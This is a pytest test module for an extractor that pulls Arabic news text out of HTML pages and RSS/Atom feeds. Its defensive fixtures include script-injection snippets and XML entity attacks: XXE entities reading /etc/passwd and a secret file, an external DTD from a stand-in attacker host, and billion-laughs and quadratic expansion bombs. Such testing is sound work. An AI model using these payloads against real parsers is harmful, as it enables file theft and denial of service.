"""Tests for helpers.corpus.web: HTML news pages, RSS and Atom feeds, and their safety.

Every page and feed is generated here, in several shapes per class of input (layouts,
declared charsets, hostile scripts, entity attacks, malformed feeds). The network is
switched off for the whole module: the extractor must work offline.
"""

from __future__ import annotations

import html
import io
import json
import socket
import tarfile
from datetime import datetime
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from helpers.corpus import COLUMNS, CorpusError, LoadReport
from helpers.corpus.web import declared_charset, html_to_text, markup_format
from corpus_files import load, write

PARAS = [
    "موسكو - وصل وزير الخارجية إلى موسكو اليوم لبحث الأزمة الليبية مع نظيره الروسي في لقاء "
    "مطول استمر ساعات.",
    "وقال المتحدث إن المحادثات حول ليبيا ستستمر يومين بحضور الوفود من الجانبين وممثلين عن "
    "الأمم المتحدة.",
    "وأضاف أن الاجتماع سيتناول وقف إطلاق النار والعملية السياسية وملف النفط والانتخابات "
    "المقبلة في البلاد.",
]
TITLE = "وزير الخارجية يصل موسكو لبحث الأزمة الليبية"
NAV = ["الرئيسية", "رياضة", "اقتصاد", "اتصل بنا"]
FOOTER = "جميع الحقوق محفوظة لموقع الأخبار"
AD = "إعلان ممول اشترك الآن واحصل على خصم"


@pytest.fixture(autouse=True)
def no_network(monkeypatch):
    """Any attempt to open a connection fails the test."""
    def refuse(*args, **kwargs):
        raise AssertionError(f"network access attempted: {args[:2]}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


def text_of(articles: pd.DataFrame) -> str:
    """Every text value of the frame, for "must not appear anywhere" checks."""
    return "\n".join(str(v) for col in COLUMNS for v in articles[col].dropna())


# --------------------------------------------------------------------------------------
# HTML pages
# --------------------------------------------------------------------------------------


def page(*, head: str = "", charset: str = '<meta charset="utf-8">', body: str | None = None,
         lang: str = 'lang="ar" dir="rtl"', doctype: str = "<!DOCTYPE html>") -> str:
    """A news page: navigation, an ad, the article, a footer."""
    if body is None:
        paragraphs = "".join(f"<p>{p}</p>" for p in PARAS)
        body = (
            "<header><a href='/'>شعار الموقع</a></header>"
            "<nav><ul>" + "".join(f"<li><a href='/{i}'>{n}</a></li>" for i, n in enumerate(NAV))
            + "</ul></nav>"
            f"<div class='ad banner'>{AD}</div>"
            f"<article><h1>{TITLE}</h1>{paragraphs}</article>"
            f"<aside><h3>الأكثر قراءة</h3><a href='/x'>خبر آخر</a></aside>"
            f"<footer>{FOOTER}</footer>"
        )
    return (f"{doctype}<html {lang}><head>{charset}<title>{TITLE} | الموقع</title>{head}"
            f"</head><body>{body}</body></html>")


META = (
    '<meta property="og:title" content="' + TITLE + '">'
    '<meta property="og:site_name" content="الجزيرة نت">'
    '<link rel="canonical" href="https://example.com/news/2021/5/1/moscow">'
    '<meta name="author" content="محمد علي">'
    '<meta property="article:published_time" content="2021-05-01T10:30:00+03:00">'
    '<meta property="article:section" content="سياسة">'
    '<meta property="og:description" content="ملخص الخبر في سطر">'
)


def test_html_article_metadata_and_no_boilerplate(tmp_path):
    write(tmp_path, {"news/moscow.html": page(head=META)})
    articles, report = load(tmp_path)
    assert report.loaded == 1 and not report.skipped and report.formats == {"html": 1}
    row = articles.iloc[0]
    assert row["body"].split("\n") == PARAS               # paragraphs as lines, headline out
    assert row["title"] == TITLE
    assert row["date"] == pd.Timestamp("2021-05-01 07:30", tz="UTC")  # time and zone kept
    assert row["source"] == "الجزيرة نت" and row["category"] == "سياسة"
    assert row["url"] == "https://example.com/news/2021/5/1/moscow"
    assert row["author"] == "محمد علي" and row["abstract"] == "ملخص الخبر في سطر"
    assert row["id"] == "moscow" and row["dateline"] == "موسكو" and row["encoding"] == "utf-8"
    for furniture in [*NAV, FOOTER, AD, "الأكثر قراءة"]:
        assert furniture not in row["body"]


@pytest.mark.parametrize("shape", ["plain", "no_doctype", "divs", "table_layout", "xhtml",
                                   "bare_body"])
def test_html_page_shapes(tmp_path, shape):
    paragraphs = "".join(f"<p>{p}</p>" for p in PARAS)
    bodies = {
        "plain": page(),
        "no_doctype": page(doctype=""),
        "divs": page(body="<div id='menu'>" + " | ".join(f"<a href='#'>{n}</a>" for n in NAV)
                     + f"</div><div class='content'><h2>{TITLE}</h2>"
                     + "".join(f"<div class='para'>{p}</div>" for p in PARAS) + "</div>"),
        "table_layout": page(body="<table><tr><td>" + "<br>".join(
            f"<a href='#'>{n}</a>" for n in NAV) + f"</td><td>{paragraphs}</td></tr></table>"),
        "xhtml": '<?xml version="1.0" encoding="utf-8"?>\n' + page(
            doctype='<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
                    '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
            lang='xmlns="http://www.w3.org/1999/xhtml" lang="ar"'),
        "bare_body": f"<body>{paragraphs}</body>",
    }
    write(tmp_path, {"a.htm": bodies[shape]})
    articles, report = load(tmp_path)
    assert report.loaded == 1, report.skipped
    body = articles.loc[0, "body"]
    for p in PARAS:
        assert p in body
    for n in NAV:
        assert n not in body.split("\n")


@pytest.mark.parametrize("declare", [
    '<meta charset="windows-1256">',
    "<meta charset=windows-1256>",
    '<meta http-equiv="Content-Type" content="text/html; charset=windows-1256">',
    "<META HTTP-EQUIV='content-type' CONTENT='text/html;charset=cp1256'>",
])
def test_html_declared_charset_windows_1256(tmp_path, declare):
    write(tmp_path, {"a.html": page(charset=declare, head=META).encode("cp1256")})
    articles, report = load(tmp_path, strict=True)
    assert articles.loc[0, "encoding"] == "cp1256"
    assert articles.loc[0, "title"] == TITLE
    assert articles.loc[0, "body"].split("\n") == PARAS


def test_html_declared_iso_8859_6_and_false_declarations(tmp_path):
    arabic = page(charset='<meta charset="iso-8859-6">', body=f"<p>{PARAS[0]}</p>")
    utf8_declared_1256 = page(charset='<meta charset="windows-1256">', head=META)
    cp1256_declared_utf8 = page(charset='<meta charset="utf-8">', head=META)
    write(tmp_path, {
        "iso.html": arabic.encode("iso-8859-6", errors="ignore"),
        "utf8.html": utf8_declared_1256,                       # valid UTF-8 wins
        "cp.html": cp1256_declared_utf8.encode("cp1256"),      # not UTF-8: the usual rule
    })
    articles, _ = load(tmp_path)
    enc = dict(zip(articles["path"], articles["encoding"]))
    assert enc == {"cp.html": "cp1256", "iso.html": "iso-8859-6", "utf8.html": "utf-8"}
    assert (articles["title"].str.contains("وزير")).all()


def test_declared_charset_reads_only_valid_declarations():
    body = "<p>نص عربي</p>"
    assert declared_charset(page(charset='<meta charset="windows-1256">').encode("utf-8")) \
        is None                                                 # UTF-8 bytes: no override
    assert declared_charset(page(charset='<meta charset="x-no-such">', body=body)
                            .encode("cp1256")) is None
    assert declared_charset(page(charset='<meta charset="utf-8">', body=body)
                            .encode("cp1256")) is None
    assert declared_charset(('<?xml version="1.0" encoding="windows-1256"?><rss>'
                             + body + "</rss>").encode("cp1256")) == "cp1256"
    assert declared_charset('<html><head><meta charset="iso-8859-1"></head><p>café</p>'
                            .encode("latin-1")) == "cp1252"         # as browsers read it


@pytest.mark.parametrize("shape", ["nav_footer", "link_index", "empty_body", "images_only",
                                   "scripts_only"])
def test_html_page_without_article_is_skipped_with_reason(tmp_path, shape):
    links = "".join(f"<div><a href='/n/{i}'>{p[:60]}</a></div>" for i, p in enumerate(PARAS))
    bodies = {
        "nav_footer": "<nav>" + " ".join(f"<a href='#'>{n}</a>" for n in NAV)
                      + f"</nav><footer>{FOOTER}</footer>",
        "link_index": f"<h1>آخر الأخبار</h1>{links}",
        "empty_body": "",
        "images_only": "<img src='a.png'><img src='b.png'>",
        "scripts_only": "<script>document.write('" + PARAS[0] + "')</script>",
    }
    write(tmp_path, {"index.html": page(body=bodies[shape])})
    articles, report = load(tmp_path)
    assert articles.empty
    [skip] = report.skipped
    assert skip.path == "index.html" and "no article text" in skip.reason
    assert skip.kind == "ignored"
    load(tmp_path, strict=True)                      # not an error: a page without a story


HOSTILE = "HOSTILE_MARKER"
SCRIPT_PLACES = {
    "head_script": ("<script>var a='{m}';</script>", "head"),
    "body_script": ("<script>document.write('{m}')</script>", "body"),
    "inline_script": ("<p>" + PARAS[0] + "<script>alert('{m}')</script></p>", "body"),
    "typed_template": ("<script type='text/template'><p>{m}</p></script>", "body"),
    "noscript": ("<noscript><p>{m} فعّل جافاسكربت</p></noscript>", "body"),
    "style": ("<style>body:after{{content:'{m}'}}</style>", "body"),
    "svg_script": ("<svg><script>alert('{m}')</script></svg>", "body"),
    "iframe": ("<iframe srcdoc=\"<p>{m}</p>\"></iframe>", "body"),
    "template": ("<template><p>{m} نص مخفي</p></template>", "body"),
    "unclosed_script": ("<script>var x = '{m}'; </scr", "body"),
}


@pytest.mark.parametrize("place", sorted(SCRIPT_PLACES))
def test_hostile_script_content_never_reaches_the_text(tmp_path, place):
    snippet, where = SCRIPT_PLACES[place]
    snippet = snippet.format(m=HOSTILE)
    paragraphs = "".join(f"<p>{p}</p>" for p in PARAS)
    if where == "head":
        doc = page(head=snippet)
    elif place == "unclosed_script":
        doc = page(body=f"<article>{paragraphs}</article>{snippet}")
    else:
        doc = page(body=f"<article><h1>{TITLE}</h1>{snippet}{paragraphs}</article>")
    write(tmp_path, {"a.html": doc})
    articles, report = load(tmp_path)
    assert report.loaded == 1, report.skipped
    assert HOSTILE not in text_of(articles)
    assert PARAS[1] in articles.loc[0, "body"]


def test_html_entities_in_a_doctype_are_not_expanded(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    doc = (f'<!DOCTYPE html [<!ENTITY xxe SYSTEM "file://{secret}">]><html><body><article>'
           + "".join(f"<p>{p} &xxe;</p>" for p in PARAS) + "</article></body></html>")
    write(tmp_path, {"pages/a.html": doc})
    articles, report = load(tmp_path / "pages")
    assert "TOP-SECRET" not in text_of(articles)


@pytest.mark.parametrize("fallback", ["time", "jsonld", "itemprop", "meta_date"])
def test_html_date_fallbacks(tmp_path, fallback):
    head, body = "", "".join(f"<p>{p}</p>" for p in PARAS)
    when = "2020-03-04T05:06:07+02:00"
    if fallback == "time":
        body = f"<article><time datetime='{when}'>4 مارس</time>{body}</article>"
    elif fallback == "jsonld":
        head = ('<script type="application/ld+json">'
                + json.dumps({"@type": "NewsArticle", "datePublished": when}) + "</script>")
    elif fallback == "itemprop":
        head = f'<meta itemprop="datePublished" content="{when}">'
    else:
        head = f'<meta name="pubdate" content="{when}">'
    write(tmp_path, {"a.html": page(head=head, body=f"<article>{body}</article>")})
    articles, _ = load(tmp_path)
    assert articles.loc[0, "date"] == pd.Timestamp("2020-03-04 03:06:07", tz="UTC")


@pytest.mark.parametrize("name, content, fmt", [
    ("saved_page", None, "html"),                   # no extension
    ("article.php", None, "html"),                  # a server script's name
    ("article.aspx", None, "html"),
    ("notes.txt", None, "html"),                    # a page saved as .txt
    ("feed.xml", "rss", "rss"),                     # .xml is TREC unless the root says not
    ("feed", "atom", "atom"),
])
def test_pages_and_feeds_detected_by_content(tmp_path, name, content, fmt):
    data = {None: page(head=META), "rss": RSS_FEED, "atom": ATOM_FEED}[content]
    write(tmp_path, {name: data})
    articles, report = load(tmp_path)
    assert report.loaded >= 1 and set(report.formats) == {fmt}, report.skipped


def test_trec_xml_and_unknown_types_are_unchanged(tmp_path):
    write(tmp_path, {
        "a.xml": "<DOC>\n<DOCNO>A1</DOCNO>\n<HEADLINE>عنوان</HEADLINE>\n<TEXT>نص</TEXT>\n</DOC>",
        "b.js": "var x = '<html>';",
        "c.css": "body { color: red }",
        "sitemap.xml": '<?xml version="1.0"?><urlset><url><loc>x</loc></url></urlset>',
    })
    articles, report = load(tmp_path)
    assert report.formats == {"trec": 1}
    assert {s.path: s.reason for s in report.skipped} == {
        "b.js": "unsupported file type '.js'", "c.css": "unsupported file type '.css'",
        "sitemap.xml": "no <DOC> elements"}


@pytest.mark.parametrize("head", [
    "<!DOCTYPE html>", "<!doctype HTML>", "\ufeff<html>", "<?xml version='1.0'?><html>",
    "<!-- saved from url=(0042)https://example.com -->\n<html>", "  \n<HEAD>",
    "<body>",
])
def test_markup_format_recognises_pages(head):
    assert markup_format(head.encode("utf-8") + b"<p>x</p>") == "html"


@pytest.mark.parametrize("head, fmt", [
    ('<?xml version="1.0"?><rss version="2.0">', "rss"),
    ('<?xml version="1.0"?>\n<!-- c -->\n<rdf:RDF xmlns:rdf="x">', "rss"),
    ('<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "b">]><rss>', "rss"),
    ('<feed xmlns="http://www.w3.org/2005/Atom">', "atom"),
    ('<atom:feed xmlns:atom="http://www.w3.org/2005/Atom">', "atom"),
    ("<DOC><DOCNO>1</DOCNO>", None),
    ("عنوان\n\nنص", None),
    ("<urlset>", None),
    ("", None),
])
def test_markup_format_recognises_feeds_only_by_root(head, fmt):
    assert markup_format(head.encode("utf-8")) == fmt
    assert markup_format(head.encode("utf-16")) == fmt     # with its BOM


# --------------------------------------------------------------------------------------
# RSS and Atom feeds
# --------------------------------------------------------------------------------------

RSS_FEED = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
     xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel><title>بي بي سي عربي</title><link>https://www.bbc.com/arabic</link>
<item>
  <title>عنوان الخبر الأول</title><link>https://example.com/1</link>
  <guid isPermaLink="false">urn:news:1</guid>
  <pubDate>Mon, 26 Feb 2018 02:20:10 +0300</pubDate>
  <dc:creator>مراسل القاهرة</dc:creator><category>سياسة</category><category>مصر</category>
  <description><![CDATA[<p>ملخص <b>الخبر</b> الأول</p>]]></description>
  <content:encoded><![CDATA[<p>القاهرة - الفقرة الأولى من الخبر.</p>
    <script>alert('HOSTILE_MARKER')</script><p>الفقرة الثانية &amp; الأخيرة.</p>]]>
  </content:encoded>
</item>
<item>
  <title>عنوان الخبر الثاني</title><link>https://example.com/2</link>
  <description>&lt;p&gt;وصف فقط&lt;/p&gt;&lt;p&gt;في فقرتين&lt;/p&gt;</description>
  <dc:date>2018-02-27T08:00:00Z</dc:date>
</item>
<item>
  <title><![CDATA[عنوان <ثالث> في CDATA]]></title>
  <description><![CDATA[نص بلا وسوم & مع رمز]]></description>
  <author>news@example.com (محرر الموقع)</author>
</item>
</channel></rss>
"""

ATOM_FEED = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title type="text">فرانس 24</title>
  <entry>
    <title type="html">عنوان &lt;b&gt;أول&lt;/b&gt;</title>
    <link rel="alternate" href="https://example.com/a1"/><link rel="enclosure" href="x.mp3"/>
    <id>tag:example.com,2020:1</id><published>2020-01-02T03:04:05+01:00</published>
    <updated>2020-01-03T00:00:00Z</updated>
    <author><name>كاتب أول</name></author><author><name>كاتب ثان</name></author>
    <category term="economy" label="اقتصاد"/>
    <summary>ملخص قصير</summary>
    <content type="html">&lt;p&gt;باريس - فقرة أولى&lt;/p&gt;&lt;p&gt;فقرة ثانية&lt;/p&gt;</content>
  </entry>
  <entry>
    <title>عنوان ثان</title><link href="https://example.com/a2"/>
    <updated>2020-02-01T00:00:00Z</updated>
    <content type="text">نص عادي &lt;ليس وسما&gt;
سطر ثان</content>
  </entry>
  <entry>
    <title>عنوان ثالث</title>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>فقرة <b>بخط</b></p>
      <p>وأخرى</p></div></content>
  </entry>
  <entry><title>عنوان رابع</title><summary type="html">&lt;p&gt;ملخص فقط&lt;/p&gt;</summary>
  </entry>
</feed>
"""


def test_rss_items(tmp_path):
    write(tmp_path, {"bbc.rss": RSS_FEED})
    articles, report = load(tmp_path)
    assert report.formats == {"rss": 3} and not report.skipped
    first, second, third = (articles.iloc[i] for i in range(3))
    assert first["title"] == "عنوان الخبر الأول"
    assert first["body"] == "القاهرة - الفقرة الأولى من الخبر.\nالفقرة الثانية & الأخيرة."
    assert first["abstract"] == "ملخص الخبر الأول"
    assert first["date"] == pd.Timestamp("2018-02-25 23:20:10", tz="UTC")
    assert first["author"] == "مراسل القاهرة" and first["category"] == "سياسة, مصر"
    assert first["id"] == "urn:news:1" and first["url"] == "https://example.com/1"
    assert first["source"] == "بي بي سي عربي" and first["dateline"] == "القاهرة"
    assert second["body"] == "وصف فقط\nفي فقرتين" and pd.isna(second["abstract"])
    assert second["date"] == pd.Timestamp("2018-02-27 08:00", tz="UTC")
    assert second["id"] == "bbc.rss#2"
    assert third["title"] == "عنوان <ثالث> في CDATA"
    assert third["body"] == "نص بلا وسوم & مع رمز"
    assert third["author"] == "news@example.com (محرر الموقع)"
    assert HOSTILE not in text_of(articles)


def test_atom_entries_by_content_type(tmp_path):
    write(tmp_path, {"f24.atom": ATOM_FEED})
    articles, report = load(tmp_path)
    assert report.formats == {"atom": 4} and not report.skipped
    a = articles.set_index("title")
    first = a.loc["عنوان أول"]
    assert first["body"] == "باريس - فقرة أولى\nفقرة ثانية" and first["abstract"] == "ملخص قصير"
    assert first["url"] == "https://example.com/a1" and first["id"] == "tag:example.com,2020:1"
    assert first["date"] == pd.Timestamp("2020-01-02 02:04:05", tz="UTC")   # published
    assert first["author"] == "كاتب أول, كاتب ثان" and first["category"] == "economy"
    assert first["source"] == "فرانس 24"
    assert a.loc["عنوان ثان", "body"] == "نص عادي <ليس وسما>\nسطر ثان"       # text stays text
    assert a.loc["عنوان ثان", "date"] == pd.Timestamp("2020-02-01", tz="UTC")  # updated
    assert a.loc["عنوان ثالث", "body"] == "فقرة بخط\nوأخرى"
    assert a.loc["عنوان رابع", "body"] == "ملخص فقط"


def test_rss_1_0_rdf(tmp_path):
    rdf = """<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
         xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://example.com/"><title>الموقع</title></channel>
  <item rdf:about="https://example.com/1"><title>عنوان</title>
    <link>https://example.com/1</link><description>وصف الخبر</description>
    <dc:date>2019-05-06T07:08:09Z</dc:date><dc:subject>ثقافة</dc:subject></item>
</rdf:RDF>"""
    write(tmp_path, {"feed.xml": rdf})
    articles, report = load(tmp_path)
    row = articles.iloc[0]
    assert report.formats == {"rss": 1}
    assert (row["title"], row["body"], row["category"], row["source"]) == (
        "عنوان", "وصف الخبر", "ثقافة", "الموقع")
    assert row["date"] == pd.Timestamp("2019-05-06 07:08:09", tz="UTC")


def test_feed_declared_windows_1256(tmp_path):
    feed = RSS_FEED.replace('encoding="UTF-8"', 'encoding="windows-1256"')
    write(tmp_path, {"a.rss": feed.encode("cp1256", errors="ignore")})
    articles, report = load(tmp_path, strict=True)
    assert set(articles["encoding"]) == {"cp1256"}
    assert articles.loc[0, "title"] == "عنوان الخبر الأول"


def attack(doctype: str, use: str) -> str:
    return (f'<?xml version="1.0"?>\n{doctype}\n<rss version="2.0"><channel><title>t</title>'
            f"<item><title>عنوان {use}</title><description>نص {use} الخبر</description></item>"
            "<item><title>عنوان سليم</title><description>نص سليم</description></item>"
            "</channel></rss>")


LAUGHS = "".join(f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">' for i in range(1, 10))
ATTACKS = {
    "xxe_passwd": ('<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"),
    "xxe_secret": ('<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{secret}">]>', "&xxe;"),
    "parameter_entity": ('<!DOCTYPE rss [<!ENTITY % p SYSTEM "file://{secret}"> %p;]>',
                         "&leak;"),
    "external_dtd": ('<!DOCTYPE rss SYSTEM "http://attacker.invalid/evil.dtd">', "&evil;"),
    "billion_laughs": (f'<!DOCTYPE rss [<!ENTITY lol0 "lol">{LAUGHS}]>', "&lol9;"),
    "quadratic": ('<!DOCTYPE rss [<!ENTITY big "' + "A" * 50_000 + '">]>', "&big;" * 2_000),
}


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_feed_entity_attacks_are_not_expanded(tmp_path, name):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    doctype, use = ATTACKS[name]
    write(tmp_path, {"in/evil.rss": attack(doctype.format(secret=secret), use)})
    articles, report = load(tmp_path / "in")
    text = text_of(articles)
    assert "root:" not in text and "TOP-SECRET" not in text
    assert "lollollol" not in text and "AAAA" not in text
    assert len(text) < 500
    assert "عنوان سليم" in set(articles["title"])


def test_feed_entity_declarations_are_reported(tmp_path):
    write(tmp_path, {"a.rss": attack(*ATTACKS["billion_laughs"])})
    _, report = load(tmp_path)
    assert report.warning_counts["entities_ignored"] == 1


@pytest.mark.parametrize("damage", ["truncated", "unclosed_tag", "bare_ampersand",
                                    "undefined_entity", "garbage_between_items"])
def test_malformed_feed_recovers_items_and_reports(tmp_path, damage):
    items = [f"<item><title>عنوان {i}</title><description>نص {i}</description></item>"
             for i in range(1, 5)]
    if damage == "truncated":
        items[3] = "<item><title>عنوان 4</title><descrip"
        tail = ""
    else:
        tail = "</channel></rss>"
        broken = {"unclosed_tag": "<item><title>عنوان 2</title><description>نص <b>2"
                                  "</description></item>",
                  "bare_ampersand": "<item><title>عنوان 2 & شركاه</title>"
                                    "<description>نص 2</description></item>",
                  "undefined_entity": "<item><title>عنوان 2 &foo;</title>"
                                      "<description>نص 2</description></item>",
                  "garbage_between_items": items[1] + "<<>>&&"}
        items[1] = broken[damage]
    feed = '<?xml version="1.0"?>\n<rss><channel><title>t</title>\n' + "\n".join(items) + tail
    write(tmp_path, {"a.rss": feed})
    articles, report = load(tmp_path)
    titles = list(articles["title"])
    assert "عنوان 1" in titles and "عنوان 3" in titles
    assert report.warning_counts["malformed_xml"] >= 1
    assert all(w.path == "a.rss" for w in report.warnings)
    load(tmp_path, strict=True)                                  # warnings, not errors


def test_unreadable_and_empty_feeds_are_skipped(tmp_path):
    write(tmp_path, {
        "empty.rss": '<?xml version="1.0"?><rss><channel><title>t</title></channel></rss>',
        "notfeed.rss": "<html><body><p>x</p></body></html>",
        "junk.atom": "<<<<",
    })
    _, report = load(tmp_path)
    reasons = {s.path: s.reason for s in report.skipped}
    assert reasons["empty.rss"] == "no <item> elements in the RSS feed"
    assert reasons["notfeed.rss"].startswith("not an RSS or Atom feed")
    assert reasons["junk.atom"].startswith("unreadable feed")
    with pytest.raises(CorpusError, match="empty.rss|junk.atom|notfeed.rss"):
        load(tmp_path, strict=True)


def test_feed_item_without_title_or_body_is_skipped_per_item(tmp_path):
    feed = ('<rss><channel><title>t</title><item><link>https://x/1</link></item>'
            "<item><title>عنوان</title></item></channel></rss>")
    write(tmp_path, {"a.rss": feed})
    articles, report = load(tmp_path)
    assert [(s.path, s.reason) for s in report.skipped] == [("a.rss", "item 1: no title or body")]
    assert list(articles["title"]) == ["عنوان"]


# --------------------------------------------------------------------------------------
# HTML fragments to text
# --------------------------------------------------------------------------------------


@pytest.mark.parametrize("fragment, expected", [
    ("<p>أ</p><p>ب</p>", "أ\nب"),
    ("سطر<br>سطر<br/>ثالث", "سطر\nسطر\nثالث"),
    ("<div><p>  كلمة   <b>وأخرى</b>  </p></div>", "كلمة وأخرى"),
    ("<ul><li>واحد</li><li>اثنان</li></ul>", "واحد\nاثنان"),
    ("نص &amp; رمز &lt;x&gt; &nbsp;هنا", "نص & رمز <x> هنا"),
    ("<p>قبل<script>alert(1)</script>بعد</p>", "قبلبعد"),
    ("<p>قبل <style>p{}</style>بعد</p><!-- تعليق -->", "قبل بعد"),
    ("", ""),
    ("<p></p>", ""),
])
def test_html_to_text(fragment, expected):
    assert html_to_text(fragment) == expected


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(alphabet=st.sampled_from("ابتثجحخدذرزسشصضطظعغفقكلمنهوي ءآأإ<>&\"'.,-"),
                        min_size=1, max_size=40), min_size=1, max_size=5))
def test_html_to_text_keeps_escaped_paragraph_text(paragraphs):
    fragment = "".join(f"<p>{html.escape(p)}</p>" for p in paragraphs)
    expected = [" ".join(p.split()) for p in paragraphs]
    assert html_to_text(fragment) == "\n".join(p for p in expected if p)


# --------------------------------------------------------------------------------------
# end to end: one file of every format
# --------------------------------------------------------------------------------------


def test_one_file_of_every_format(tmp_path):
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["العنوان", "النص", "التاريخ"])
    sheet.append(["عنوان إكسل", "نص من إكسل", datetime(2022, 1, 2, 3, 4)])
    buffer = io.BytesIO()
    book.save(buffer)
    trec = "<DOC>\n<DOCNO>T1</DOCNO>\n<HEADLINE>عنوان تريك</HEADLINE>\n<TEXT>نص</TEXT>\n</DOC>"
    files = {
        "a.txt": "عنوان نصي\n\nنص الخبر.\n",
        "b.xml": trec,
        "c.json": json.dumps([{"title": "عنوان جيسون", "body": "نص"}], ensure_ascii=False),
        "d.jsonl": json.dumps({"title": "عنوان سطور", "body": "نص"}, ensure_ascii=False),
        "e.csv": "العنوان,النص\nعنوان سي إس في,نص\n",
        "f.tsv": "title\tbody\nعنوان تي إس في\tنص\n",
        "g.html": page(head=META),
        "h.rss": RSS_FEED,
        "i.atom": ATOM_FEED,
        "j.xlsx": buffer.getvalue(),
        "k.xls": (Path(__file__).parent / "data" / "news.xls").read_bytes(),
        "feed.xml": RSS_FEED,
    }
    write(tmp_path, files)
    pd.DataFrame({"title": ["عنوان باركيه"], "body": ["نص"]}).to_parquet(tmp_path / "l.parquet")
    articles, report = load(tmp_path)
    assert report.formats == {"txt": 1, "trec": 1, "json": 1, "jsonl": 1, "csv": 1, "tsv": 1,
                              "html": 1, "rss": 6, "atom": 4, "xlsx": 1, "xls": 2,
                              "parquet": 1}
    assert [s.path for s in report.skipped] == ["k.xls"]          # its notes sheet
    assert articles.loc[articles["path"] == "j.xlsx", "date"].iloc[0] == \
        pd.Timestamp("2022-01-02 03:04", tz="UTC")
    # the same through an archive, in worker-free and cached loads alike
    archive = tmp_path.parent / "all.tar.gz"
    with tarfile.open(archive, "w:gz") as tar:
        tar.add(tmp_path, arcname="corpus")
    again, report2 = load(archive)
    assert report2.formats == report.formats and len(again) == len(articles)
    assert isinstance(report2, LoadReport)
    cache_dir = tmp_path.parent / "cache"
    cached, _ = load(archive, cache=True, cache_dir=cache_dir)
    cached2, report3 = load(archive, cache=True, cache_dir=cache_dir)
    assert report3.from_cache and cached2.equals(cached)


def test_meta_names_in_any_case_and_a_last_resort_time(tmp_path):
    paragraphs = "".join(f"<p>{p}</p>" for p in PARAS)
    write(tmp_path, {
        "dc.html": page(head='<META NAME="DC.Date" CONTENT="2019-01-02T03:04:05Z">',
                        body=f"<article>{paragraphs}</article>"),
        "late.html": page(body=f"<article>{paragraphs}</article>"
                          "<div><time datetime='2018-07-08T09:10:11Z'>قبل ساعة</time></div>"),
    })
    articles, _ = load(tmp_path)
    dates = dict(zip(articles["path"], articles["date"]))
    assert dates == {"dc.html": pd.Timestamp("2019-01-02 03:04:05", tz="UTC"),
                     "late.html": pd.Timestamp("2018-07-08 09:10:11", tz="UTC")}


@settings(max_examples=80, deadline=None)
@given(cut=st.floats(min_value=0.0, max_value=1.0), feed=st.sampled_from(["rss", "atom"]))
def test_a_feed_cut_anywhere_loads_the_items_before_the_cut(cut, feed):
    from helpers.corpus.formats import parse_blob
    from helpers.corpus.schema import Options

    text = {"rss": RSS_FEED, "atom": ATOM_FEED}[feed]
    data = text.encode("utf-8")[: int(len(text.encode("utf-8")) * cut)]
    result = parse_blob(f"f.{feed}", data, Options(None, None, ()))
    assert result.seen == len(result.rows) + len(result.skipped)
    closing = "</item>" if feed == "rss" else "</entry>"
    complete = data.decode("utf-8", errors="ignore").count(closing)
    assert len(result.rows) >= complete


@pytest.mark.parametrize("declared, page_title, guessed, headline, expected", [
    ("الجزيرة نت", "خبر | موقع آخر", "خبر", "خبر", "الجزيرة نت"),          # declared wins
    (None, "وصول الوزير إلى موسكو | الجزيرة نت", None, "وصول الوزير إلى موسكو", "الجزيرة نت"),
    (None, "هسبريس - وصول الوزير إلى موسكو", None, "وصول الوزير إلى موسكو", "هسبريس"),
    (None, "وصول الوزير إلى موسكو لبحث الأزمة « سكاي نيوز عربية", None, None,
     "سكاي نيوز عربية"),                                                  # headline unknown
    (None, "وصول الوزير إلى موسكو", "وصول الوزير إلى موسكو", "وصول الوزير إلى موسكو", None),
    (None, None, "BBC News عربي", "وصول الوزير", "BBC News عربي"),         # a real guess kept
])
def test_page_source_is_the_outlet_never_the_headline(declared, page_title, guessed, headline,
                                                       expected):
    from helpers.corpus.web import page_source
    meta = {"source": declared, "page_title": page_title}
    assert page_source(meta, guessed, headline) == expected
